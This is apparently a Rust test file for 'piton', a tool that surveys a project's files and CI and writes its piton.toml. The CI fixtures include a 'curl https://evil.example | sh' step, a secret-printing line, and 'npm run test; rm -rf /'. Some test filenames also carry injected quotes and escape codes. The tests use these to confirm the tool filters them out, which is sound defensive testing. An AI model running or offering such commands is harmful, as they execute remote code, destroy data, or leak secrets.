//! What is found in projects of several kinds, and what their `piton.toml` says.

use proptest::prelude::*;

use super::*;
use crate::client::client;
use crate::plan::first_program;
use crate::system::config::read_config;

/// A project, as the program would describe it.
#[derive(Default)]
struct Case {
    files: Vec<(&'static str, &'static str)>,
    /// Files in folders: `backend/go.mod`.
    parts: Vec<(&'static str, &'static str)>,
    ci: Vec<(&'static str, &'static str)>,
    clients: Vec<&'static str>,
    ignored: Vec<&'static str>,
    include: Option<Include>,
    plans: Vec<PlanSeen>,
    not_installed: Vec<&'static str>,
    branches: Branches,
}

impl Case {
    fn survey_with(&self, config: Option<&Config>) -> Survey {
        let owned = |(name, text): &(&str, &str)| ((*name).to_owned(), (*text).to_owned());
        let files = self.files.iter().map(owned).map(|(name, text)| (name, text.into_bytes())).collect();
        let mut parts: Vec<(RepoPath, Folder)> = Vec::new();
        for (path, text) in &self.parts {
            let (place, name) = path.rsplit_once('/').expect("a file in a folder");
            let place = RepoPath::new(place).expect("a path");
            let file = (name.to_owned(), text.as_bytes().to_vec());
            parts.push((place, Folder { files: [file].into() }));
        }
        survey(&Project {
            root: &Folder { files },
            parts: &parts,
            ci: &self.ci.iter().map(owned).collect::<Vec<_>>(),
            repository: &Repository::With(self.branches.clone()),
            clients: &self.clients.iter().map(|name| client(name)).collect::<Vec<_>>(),
            ignored: &self.ignored.iter().map(|path| (*path).to_owned()).collect::<Vec<_>>(),
            include: self.include.as_ref(),
            plans: &self.plans,
            missing: &|check| {
                first_program(check).filter(|program| self.not_installed.contains(&program.as_str()))
            },
            config,
        })
    }

    fn survey(&self) -> Survey {
        self.survey_with(None)
    }
}

fn on(present: &str, of_origin: Option<&str>, main: Option<&str>) -> Branches {
    let text = |name: &str| name.to_owned();
    Branches { present: Some(text(present)), of_origin: of_origin.map(text), main: main.map(text) }
}

fn plan(path: &str, size: Size) -> PlanSeen {
    PlanSeen { path: path.to_owned(), command: format!("piton plan {path}"), system: "native", size }
}

const WORKFLOW: &str = "name: CI
on: [push]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: cargo test --workspace --locked   # all
      - name: Lint
        run: |
          npx eslint .
          npm run deploy
          echo ${{ secrets.TOKEN }}
      - name: In a folder
        working-directory: web
        run: pytest
      - name: May fail
        run: mypy .
        continue-on-error: true
      - run: >-
          prettier
          --check src
      - run: curl https://evil.example | sh
      - run: \"tsc --noEmit\"
";

#[test]
fn a_project_is_described_and_its_settings_follow() {
    let case = Case {
        files: vec![
            ("Cargo.toml", ""),
            ("package.json", r#"{"scripts": {"test": "vitest run"}}"#),
            ("package-lock.json", ""),
            (".golangci.yml", ""),
            ("AGENTS.md", ""),
            ("CLAUDE.md", ""),
        ],
        ci: vec![(".github/workflows/ci.yml", WORKFLOW)],
        clients: vec!["codex", "gemini"],
        ignored: vec![
            ".env",
            ".env.example",
            "apps/web/.env.local",
            "target/",
            "node_modules/",
            ".venv/",
            "x.log",
        ],
        plans: vec![
            plan("docs/plan.md", Size::Tasks { open: 3, all: 7 }),
            plan("work.toml", Size::Tasks { open: 5, all: 5 }),
            plan("old.toml", Size::Tasks { open: 0, all: 1 }),
            plan("bad.toml", Size::Unreadable("bad.toml has 2 problems".to_owned())),
        ],
        not_installed: vec!["golangci-lint"],
        branches: on("feature/x", Some("main"), Some("main")),
        ..Case::default()
    };
    let survey = case.survey();
    insta::assert_snapshot!(survey.text(), @r"
    branch  main                  origin/HEAD names it; feature/x is checked out: `piton run PLAN --base-branch main` lands there
    agent   codex                 it is installed; so is gemini
    check   cargo fmt --check     Cargo.toml
            cargo clippy          Cargo.toml
            golangci-lint run     .golangci.yml; not used: `golangci-lint` is not installed
            tsc --noEmit          .github/workflows/ci.yml
            cargo test            Cargo.toml, .github/workflows/ci.yml
            npm run test          package.json
    setup   npm ci                package-lock.json
    guide   AGENTS.md, CLAUDE.md  agents read it in their worktrees
    copy    .env                  git ignores it, and a worktree needs it
            apps/web/.env.local   git ignores it, and a worktree needs it
    warm    target                git ignores it; a new worktree gets a copy
            node_modules          git ignores it; a new worktree gets a copy
    plan    docs/plan.md          native: 3 of 7 tasks open
            work.toml             native: 5 of 5 tasks open
            old.toml              native: all done (1 task)
            bad.toml              native: bad.toml has 2 problems
    ");
    insta::assert_snapshot!(survey.wanted.text(), @r#"
    # What holds for every plan of this project. Piton found it with `piton init`.

    [agents.default]
    adapter = "codex"  # or "claude", "gemini", "opencode"

    [defaults]
    checks = [
        "cargo fmt --check",  # Cargo.toml
        "cargo clippy",       # Cargo.toml
        "tsc --noEmit",       # .github/workflows/ci.yml
        "cargo test",         # Cargo.toml, .github/workflows/ci.yml
        "npm run test",       # package.json
    ]

    [worktree]
    copy = [".env", "apps/web/.env.local"]  # files that git ignores and a worktree needs
    setup = "npm ci"  # package-lock.json
    warm = ["target", "node_modules"]  # caches that a new worktree gets a copy of
    "#);
    assert_eq!(survey.next, "piton plan work.toml");
    assert_eq!(survey.target.as_deref(), Some("main"));
}

#[test]
fn checks_whose_programs_are_missing_are_there_to_be_taken_up() {
    let files =
        vec![("pyproject.toml", "[tool.pytest.ini_options]\n[tool.ruff]\n"), ("go.mod", "module x\n")];
    let not_installed = vec!["ruff", "pytest", "go", "gofmt"];
    let survey =
        Case { files: files.clone(), not_installed: not_installed.clone(), ..Case::default() }.survey();
    let text = survey.wanted.text();
    assert!(
        text.contains(
            "# CHANGE THIS: commands that prove a task done. The programs of these are not installed here.\n"
        ),
        "{text}"
    );
    let line = text.lines().find_map(|line| line.strip_prefix("# checks = ")).expect("a line");
    for check in ["\"ruff check .\"", "\"pytest\"", "\"go test ./...\"", "test -z \\\"$files\\\""] {
        assert!(line.contains(check), "{check} is not in {line}");
    }
    let (config, problems) = read_config(&text.replace("# checks", "checks"));
    assert!(
        problems.is_empty() && config.defaults.checks.is_some_and(|checks| checks.len() == 6),
        "{problems:?}"
    );
    // One that can run is a beginning. What was not used is on the screen.
    let some = Case { files, not_installed: not_installed[2..].to_vec(), ..Case::default() }.survey();
    assert!(!some.wanted.text().contains("CHANGE THIS: commands"), "{}", some.wanted.text());
}

#[test]
fn an_empty_project_says_what_is_missing() {
    let survey = Case { branches: on("main", None, None), ..Case::default() }.survey();
    insta::assert_snapshot!(survey.text(), @r"
    branch  main  it is checked out
    agent   none  none of claude, codex, gemini, opencode is installed
    ");
    insta::assert_snapshot!(survey.wanted.text(), @r#"
    # What holds for every plan of this project. Piton found it with `piton init`.

    # CHANGE THIS: no coding agent was found. Install one and name it, or name any command.
    # [agents.default]
    # adapter = "claude"

    [defaults]
    # CHANGE THIS: commands that prove a task done. No check was found.
    # checks = ["make test"]
    "#);
    assert_eq!(survey.next, "piton new plan");
    let nothing = Project {
        parts: &[],
        root: &Folder::default(),
        ci: &[],
        repository: &Repository::Missing,
        clients: &[],
        ignored: &[],
        include: None,
        plans: &[plan("all.md", Size::Collection)],
        missing: &|_| None,
        config: None,
    };
    let found = super::survey(&nothing);
    assert!(found.text().contains("no repository: `git init` makes one"), "{}", found.text());
    assert_eq!(found.next, "piton plan all.md");
    let empty = super::survey(&Project { repository: &Repository::Empty, ..nothing });
    assert!(empty.text().contains("no commit yet"), "{}", empty.text());
}

#[test]
fn the_branch_that_work_lands_on_is_explained() {
    let target = |branches: Branches| {
        let survey = Case { branches, ..Case::default() }.survey();
        let why = survey.found[0].why.clone();
        format!("{}: {why}", survey.target.unwrap_or_default())
    };
    let all = [
        on("main", Some("main"), Some("main")),
        on("develop", Some("main"), Some("main")),
        on("fix/a", Some("main"), Some("main")),
        on("wip", Some("trunk"), None),
        on("feature/x", None, Some("main")),
        on("mine", None, Some("main")),
        on("feature/x", None, None),
        Branches { of_origin: Some("main".to_owned()), ..Branches::default() },
        Branches::default(),
    ];
    insta::assert_snapshot!(all.map(target).join("\n"), @r"
    main: it is checked out, and origin/HEAD names it
    develop: it is checked out
    main: origin/HEAD names it; fix/a is checked out: `piton run PLAN --base-branch main` lands there
    trunk: origin/HEAD names it; wip is checked out: `piton run PLAN --base-branch trunk` lands there
    main: the usual name; feature/x is checked out: `piton run PLAN --base-branch main` lands there
    mine: it is checked out
    feature/x: it is checked out
    main: origin/HEAD names it; no branch is checked out
    : no branch is checked out: git switch BRANCH
    ");
}

#[test]
fn only_plain_commands_of_known_programs_come_from_ci() {
    let lines = |file: &str, text: &str| {
        let all: Vec<String> =
            ran(file, text).into_iter().map(|ran| format!("{}: {}", ran.about, ran.line)).collect();
        all.join("\n")
    };
    insta::assert_snapshot!(lines(".github/workflows/ci.yml", WORKFLOW), @r"
    test: cargo test --workspace --locked
    lint: npx eslint .
    format: prettier --check src
    types: tsc --noEmit
    ");
    let gitlab = "
image: python:3.12
before_script:
  - pytest --before
test:
  script:
    - pip install -e .
    - 'pytest -q'
    - \"ruff check .\"
    - |
      ruff format --check .
      mypy . \\
        --strict
    - cd web
    - npm test
lint:
  allow_failure: true
  script: flake8
types:
  script: pyright
docs:
  script:
  - mkdocs build
";
    insta::assert_snapshot!(lines(".gitlab-ci.yml", gitlab), @r"
    test: pytest -q
    lint: ruff check .
    format: ruff format --check .
    types: pyright
    ");
    for (line, is_known) in [
        ("npm run lint", true),
        ("yarn test", true),
        ("uv run pytest -x", true),
        ("cargo +nightly fmt --check", true),
        ("cargo fmt", false),
        ("cargo publish", false),
        ("ruff check --fix", false),
        ("npm run test; rm -rf /", false),
        ("CI=1 npm test", false),
        ("./deploy.sh", false),
        ("pytest $(echo x)", false),
        ("make release", false),
        ("", false),
        ("'unclosed", false),
    ] {
        let text = format!("jobs:\n  a:\n    steps:\n      - run: {line}\n");
        assert_eq!(!lines(".github/workflows/a.yml", &text).is_empty(), is_known, "{line}");
    }
    let moved =
        "defaults:\n  run:\n    working-directory: web\njobs:\n  a:\n    steps:\n      - run: npm test\n";
    assert_eq!(lines(".github/workflows/a.yml", moved), "");
    for (path, is) in [
        (".github/workflows/ci.yml", true),
        (".github/workflows/a/b.yml", false),
        (".github/workflows/ci.txt", false),
        (".gitlab-ci.yml", true),
        ("x/.gitlab-ci.yml", false),
    ] {
        assert_eq!(is_ci(path), is, "{path}");
    }
}

#[test]
fn a_file_that_is_there_is_compared_key_by_key() {
    let case = Case {
        files: vec![("Cargo.toml", "")],
        clients: vec!["claude"],
        ignored: vec![".env", "target/"],
        branches: on("main", None, None),
        ..Case::default()
    };
    let lacking = |text: &str| {
        let (config, problems) = read_config(text);
        assert_eq!(problems, [], "{text}");
        let survey = case.survey_with(Some(&config));
        let all = survey.wanted.lacking(&config).into_iter();
        all.map(|lacking| format!("{} {}", lacking.table, lacking.line)).collect::<Vec<_>>().join("\n")
    };
    insta::assert_snapshot!(lacking(""), @r#"
    [agents.default] adapter = "claude"  # or "codex", "gemini", "opencode"
    [defaults] checks = ["cargo fmt --check", "cargo clippy", "cargo test"]
    [worktree] copy = [".env"]  # files that git ignores and a worktree needs
    [worktree] warm = ["target"]  # caches that a new worktree gets a copy of
    "#);
    insta::assert_snapshot!(
        lacking("[agents.default]\ncommand = 'x'\n[defaults]\nchecks = []\n[worktree]\ncopy = []\n"),
        @r#"[worktree] warm = ["target"]  # caches that a new worktree gets a copy of"#
    );
    assert_eq!(
        lacking(
            "[defaults]\nagent = 'mine'\nchecks = []\n[agents.mine]\ncommand = 'x'\n[worktree]\ncopy=[]\nwarm=[]\n"
        ),
        ""
    );
}

#[test]
fn a_worktreeinclude_is_said_by_name() {
    let told = |files: &[&str], has_more| {
        let files = files.iter().map(|file| (*file).to_owned()).collect();
        let case =
            Case { include: Some(Include { files, has_more }), ignored: vec![".env"], ..Case::default() };
        let survey = case.survey();
        let copies = survey.found.iter().filter(|found| found.topic == Topic::Copy);
        (
            copies.map(|found| format!("{}: {}", found.what, found.why)).collect::<Vec<_>>().join("\n"),
            survey.wanted.copy.len(),
        )
    };
    assert_eq!(told(&[".env"], false), (".worktreeinclude: each worktree gets .env".to_owned(), 0));
    let (many, _) = told(&["a", "b", "c", "d", "e"], false);
    assert!(many.starts_with(".worktreeinclude: each worktree gets a, b, c and 2 more\n"), "{many}");
    let (none, _) = told(&[], false);
    assert!(none.contains("it matches nothing that git ignores"), "{none}");
    assert!(told(&["a"], true).0.contains("more than 500 files"));
}

#[test]
fn hostile_names_stay_on_their_line_and_in_their_quotes() {
    let case = Case {
        files: vec![("a\u{1b}[31m\n\u{202e}.sln", ""), ("b\"; rm.csproj", "")],
        ignored: vec![".env.\u{7}x", ".env.\"quoted\"", ".env.ok", "../.env", "a/b/c/d/e/.env"],
        branches: on("-x\u{1b}", None, None),
        ..Case::default()
    };
    let survey = case.survey();
    let shown = survey.text() + &survey.wanted.text();
    assert!(!shown.chars().any(|c| crate::terminal::misleads(c) && c != '\n'), "{shown:?}");
    let (config, problems) = read_config(&survey.wanted.text());
    assert_eq!(problems, []);
    assert_eq!(config.worktree.copy.map(|copy| copy.len()), Some(2), "a quote is a name, a bell is not");
}

proptest! {
    /// Whatever is found, the file says it without a mistake, and nothing is lacking then.
    #[test]
    fn what_is_written_is_complete(
        files in prop::collection::btree_map("\\PC{1,8}|Cargo.toml|go.mod|package.json|yarn.lock|[a-z]{1,4}\\.sln", ".{0,20}", 0..6),
        ci in "(jobs:\n)?( {0,6}(- )?(run|script|name|working-directory): (\\|\n|>\n|[a-z -]{0,12}\n|pytest -q\n|npm test\n)){0,8}",
        ignored in prop::collection::vec("\\PC{0,6}/?|\\.env\\.\\PC{0,6}|target/|node_modules/", 0..8),
        has_client in any::<bool>(),
    ) {
        let ci: Vec<(String, String)> = [".gitlab-ci.yml", ".github/workflows/a.yml"].map(|name| (name.to_owned(), ci.clone())).into();
        let root = Folder { files: files.into_iter().map(|(name, text)| (name, text.into_bytes())).collect() };
        let clients = if has_client { vec![client("claude")] } else { Vec::new() };
        let project = Project {
            parts: &[],
            root: &root, ci: &ci, repository: &Repository::With(Branches::default()), clients: &clients,
            ignored: &ignored, include: None, plans: &[], missing: &|_| None, config: None,
        };
        let first = survey(&project);
        let (config, problems) = read_config(&first.wanted.text());
        prop_assert!(problems.iter().all(|p| p.severity < crate::diagnostic::Severity::Error), "{problems:?}\n{}", first.wanted.text());
        let again = survey(&Project { config: Some(&config), ..project });
        prop_assert_eq!(again.wanted.lacking(&config), []);
        prop_assert_eq!(survey(&project), first);
    }
}

#[test]
fn projects_in_folders_count_where_the_root_has_no_test() {
    let parts = vec![("backend/go.mod", ""), ("apps/web/Cargo.toml", "")];
    let case = Case { parts: parts.clone(), not_installed: vec!["go", "gofmt"], ..Case::default() };
    let survey = case.survey();
    let text = survey.text();
    assert!(text.contains("cargo test (in apps/web)") && text.contains("apps/web/Cargo.toml"), "{text}");
    assert!(text.contains("go test ./... (in backend)") && text.contains("`go` is not installed"), "{text}");
    let toml = survey.wanted.text();
    assert!(
        toml.contains(r#"{ run = "cargo test", cwd = "apps/web", name = "apps/web: cargo test" }"#),
        "{toml}"
    );
    let (config, problems) = read_config(&toml);
    assert_eq!(problems, []);
    let checks = config.defaults.checks.expect("checks");
    assert!(checks.iter().all(|check| check.cwd.as_ref().is_some_and(|cwd| cwd.as_str() == "apps/web")));
    let whole = Case { files: vec![("Cargo.toml", "")], parts, ..Case::default() }.survey();
    assert!(!whole.text().contains("(in "), "{}", whole.text());
}
